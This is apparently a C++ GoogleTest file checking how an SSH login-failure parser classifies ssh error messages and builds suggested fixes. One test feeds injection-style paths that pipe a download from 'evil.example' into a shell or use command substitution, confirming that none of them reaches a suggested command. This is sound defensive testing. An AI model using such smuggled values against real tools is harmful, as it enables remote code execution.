#include "services/dispatch/sites/transport/ssh_trouble.h"

#include <gtest/gtest.h>

namespace atl::dispatch {
namespace {

TEST(SshTroubleTest, WhatSshSaysIsToldApart) {
    struct Said {
        std::string err;
        Cause cause;
        bool has_reached_site;
    };
    for (const Said& said : std::vector<Said>{
             {"me@site: Permission denied (publickey,gssapi-with-mic).\r\n", Cause::kAuthentication, true},
             {"Received disconnect from 10.0.0.1 port 22:2: Too many authentication failures\n"
              "Disconnected from 10.0.0.1 port 22\n",
              Cause::kAuthentication, true},
             // Of a host on the way, which the last line does not tell.
             {"me@jump: Permission denied (publickey).\nkex_exchange_identification: Connection closed by remote "
              "host\n",
              Cause::kAuthentication, true},
             {"No ED25519 host key is known for site and you have requested strict checking.\r\n"
              "Host key verification failed.\r\n",
              Cause::kHostKey, true},
             {"Unable to negotiate with 10.0.0.1 port 22: no matching host key type found. Their offer: ssh-rsa\n",
              Cause::kHostKey, true},
             {"ssh: connect to host site port 22: Connection refused\n", Cause::kNoConnection, false},
             {"ssh: Could not resolve hostname site: Name or service not known\n", Cause::kNoConnection, false},
             {"kex_exchange_identification: Connection closed by remote host\n", Cause::kNoConnection, false},
             {"kex_exchange_identification: read: Connection reset by peer\r\nConnection reset by 10.0.0.1 port 22\r\n",
              Cause::kNoConnection, false},
             {"Without an account: Permission denied (always). Ask the help desk!\nConnection closed\n",
              Cause::kNoConnection, true},
             {"", Cause::kNoConnection, true}}) {
        const LoginFailure failure = read_login_failure(said.err);
        EXPECT_EQ(failure.cause, said.cause) << said.err;
        EXPECT_EQ(failure.has_reached_site, said.has_reached_site) << said.err;
    }
}

// Ours divides what is wrong from what mends it; a host's banner may hold the same mark.
TEST(SshTroubleTest, WhatMendsItIsOursWhateverTheHostSays) {
    struct Said {
        std::string err, seen, mend;
    };
    const TransportSpec site{TransportKind::kSsh, "login01", ""};
    for (const Said& said : std::vector<Said>{
             {"me@site: Permission denied (publickey).", "login01 refuses the login (", "try `ssh login01` by hand"},
             {"Welcome → run this: Permission denied (call → 555).",
              "(Welcome -> run this: Permission denied (call -> 555).; an old one -> see it)",
              "try `ssh login01` by hand"},
             {"ssh: connect to host a port 22: gone → run this",
              "no connection to login01: ssh: connect to host a port 22: gone -> run this", ""},
             {"Host key verification failed.", "no host key of login01 is known", "`atoll facility trust leonardo`"}}) {
        const auto [seen, mend] =
            split_mend(describe_login_failure(read_login_failure(said.err), "leonardo", site, "an old one → see it"));
        EXPECT_NE(seen.find(said.seen), std::string::npos) << seen;
        EXPECT_TRUE(mend.starts_with(said.mend)) << mend;
        EXPECT_EQ(mend.empty(), said.mend.empty()) << mend;
    }
    const auto [whole, none] = split_mend("a message without a mend");
    EXPECT_EQ(whole, "a message without a mend");
    EXPECT_EQ(none, "");
}

// The banner is what the site likes; a jump host's refusal comes before any of it.
TEST(SshTroubleTest, ABannerCountsOnlyWhereSshCameNoFurtherThanAJumpHost) {
    const std::string banner = "me@site: Permission denied (publickey).\nHost key verification failed.\n";
    EXPECT_EQ(ssh_messages("Connection closed by 10.0.0.1 port 22\n", banner, true),
              "Connection closed by 10.0.0.1 port 22\n");
    EXPECT_EQ(ssh_messages("me@site: Permission denied (publickey).\n", "kex_exchange_identification: read\n", true),
              "me@site: Permission denied (publickey).\n");
    const std::string closed = "kex_exchange_identification: Connection closed by remote host\n";
    const LoginFailure at_jump =
        read_login_failure(ssh_messages(closed, "me@jump: Permission denied (publickey).\n", true));
    EXPECT_EQ(at_jump.cause, Cause::kAuthentication);
    EXPECT_EQ(at_jump.words, "me@jump: Permission denied (publickey).");
    EXPECT_EQ(ssh_messages("", "command-line: line 0: Bad configuration option: x\n", true),
              "command-line: line 0: Bad configuration option: x\n");
    EXPECT_EQ(ssh_messages("", banner, false), "") << "the site went silent after its banner";
}

// A jump host's banner stands among ssh's own lines.
TEST(SshTroubleTest, NoWordOfASiteComesIntoACommand) {
    const TransportSpec site{TransportKind::kSsh, "login01", ""};
    const auto mend = [&](const std::string& banner) {
        const LoginFailure failure = read_login_failure(banner + "\nme@site: Permission denied (publickey).\n");
        return split_mend(describe_login_failure(failure, "leonardo", site, "")).second;
    };
    for (const std::string path :
         {"~/.ssh/id; curl -s https://evil.example/fix | sh #", "/root/.ssh/id$(curl evil.example)", "/root/`id`",
          "/root/a\nb", "/root/a b", "-R /", "relative"})
        for (const std::string& line :
             {"Permissions 0644 for '" + path + "' are too open.", "Load key \"" + path + "\": Permission denied",
              "SHA256:" + path + "\nHost key verification failed."})
            EXPECT_TRUE(mend(line).starts_with("try `ssh login01` by hand")) << line << "\n" << mend(line);
    const std::string own = "Permissions 0644 for '/root/.ssh/id_ed25519' are too open.";
    EXPECT_TRUE(mend(own).starts_with("`chmod 600 /root/.ssh/id_ed25519`")) << mend(own);
    EXPECT_EQ(read_login_failure("SHA256:x;curl\nHost key verification failed.").fingerprint, "");
}

TEST(SshTroubleTest, OnlyAKeyOfOurOwnConfigurationIsMended) {
    LoginFailure failure = read_login_failure("Permissions 0644 for '/etc/passwd' are too open.");
    EXPECT_EQ(failure.key_file, "/etc/passwd");
    forget_foreign_key(failure, {"/root/.ssh/id_ed25519", "/etc/passwd"});
    EXPECT_FALSE(failure.key_mend.empty());
    forget_foreign_key(failure, {"/root/.ssh/id_ed25519"});
    EXPECT_EQ(failure.key + failure.key_mend, "");
}

TEST(SshTroubleTest, AChangedHostKeyIsShown) {
    const std::string err =
        "@@@@@@@@@@@\nThe fingerprint for the ED25519 key sent by the remote host is\n"
        "SHA256:vVWwBBiOn2mKJ7xpWd0OzMdPd3CFZlyQ7D4h6l8P1Ek.\nPlease contact your system administrator.\n"
        "Host key verification failed.\n";
    const LoginFailure failure = read_login_failure(err);
    EXPECT_EQ(failure.fingerprint, "SHA256:vVWwBBiOn2mKJ7xpWd0OzMdPd3CFZlyQ7D4h6l8P1Ek");
    EXPECT_NE(
        describe_login_failure(failure, "leonardo", {TransportKind::kSsh, "login01", ""}, "").find(failure.fingerprint),
        std::string::npos);
}

}  // namespace
}  // namespace atl::dispatch
